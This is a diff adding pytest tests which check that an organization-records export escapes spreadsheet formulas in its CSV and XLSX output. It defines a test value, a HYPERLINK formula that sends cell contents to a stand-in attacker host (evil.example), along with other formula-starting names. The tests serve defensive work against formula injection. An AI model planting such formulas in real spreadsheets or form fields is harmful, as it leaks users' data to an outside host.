@@ -91,3 +91,21 @@ def test_rows_are_read_in_chunks(orgs, cast):
     rows = list(exports.iter_rows(Organization.objects.order_by("name"), chunk_size=1))
     assert [r[1] for r in rows] == sorted(["兴宁区老年协会", "北宁社区广场舞队", "新竹社区老年协会"])
     assert rows[1][12] == "生活服务、公益慈善" or rows[0][12] == "生活服务、公益慈善"
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+@pytest.mark.parametrize("name", [FORMULA_NAME, "+兴宁区老年协会", "-1+2 协会", "@SUM(A1) 协会"])
+def test_a_name_that_begins_like_a_formula_is_exported_to_csv_as_text(cast, login, name):
+    make_filed(cast["county"], name=name, contact_name="=1+1")
+    rows = read_csv(login(cast["county"]).get(EXPORT, {"format": "csv"}))
+    names = [r[1] for r in rows[1:]]
+    assert names == ["'" + name]
+    assert rows[1][HEADERS.index("联系人")] == "'=1+1"
+
+
+def test_a_name_that_begins_like_a_formula_is_a_text_cell_in_the_xlsx_export(cast, login):
+    make_filed(cast["county"], name=FORMULA_NAME)
+    rows = read_xlsx(login(cast["county"]).get(EXPORT, {"format": "xlsx"}))
+    assert rows[1][1] == FORMULA_NAME
